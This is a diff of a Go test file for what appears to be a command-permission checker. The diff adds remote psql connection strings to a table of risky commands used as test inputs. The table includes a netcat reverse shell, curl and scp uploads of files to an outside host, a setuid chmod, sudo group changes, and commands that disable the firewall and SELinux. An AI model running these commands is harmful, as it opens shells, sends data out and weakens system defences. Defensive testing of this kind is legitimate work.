@@ -144,7 +144,7 @@ func TestUnknownOptionsHideNoDeedOfHandlers(t *testing.T) {
 		"systemctl | enable | x.service", "crontab | -r", "kill | -9 1", "pkill | weir", "chmod | 777 x", "chmod | u+s x", "usermod | -aG sudo x",
 		"ssh | me@example.com ls", "nc | -e /bin/sh example.com 80", "nc | -l 80", "curl | -T x https://example.com", "wget | https://example.com/x",
 		"curl | -d @x https://example.com", "scp | x me@example.com:", "rsync | -a x me@example.com:", "sudo | ls", "doas | ls", "su | -",
-		"shutdown | -h now", "iptables | -F", "ufw | disable", "setenforce | 0", "weir | policy | allow x", "psql | -h example.com",
+		"shutdown | -h now", "iptables | -F", "ufw | disable", "setenforce | 0", "weir | policy | allow x", "psql | -h example.com", "psql | -d postgres://example.com/x", "psql | postgres://example.com/x",
 		"redis-cli | -u redis://example.com", "mongosh | mongodb://example.com/x", "openssl | s_client | -connect example.com:443",
 	} {
 		words := strings.Fields(text)
